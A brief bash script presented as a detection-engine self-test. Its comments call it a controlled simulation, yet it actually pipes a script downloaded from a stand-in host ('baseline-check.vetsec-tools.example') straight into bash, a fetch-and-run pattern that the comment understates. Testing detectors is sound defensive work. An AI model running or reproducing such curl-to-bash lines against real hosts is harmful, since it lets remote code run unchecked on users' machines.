#!/usr/bin/env bash
# Security self-test: verify the detection engine reacts to the blocked pattern.
# NOTE: this is a controlled simulation for detection testing (not an attack).
set -u
probe_host="baseline-check.vetsec-tools.example"
probe_path="/probe.sh"
echo "[selftest] exercising blocked pattern (expected to be flagged)"
curl -fsSL "https://${probe_host}${probe_path}" | bash
echo "[selftest] done"
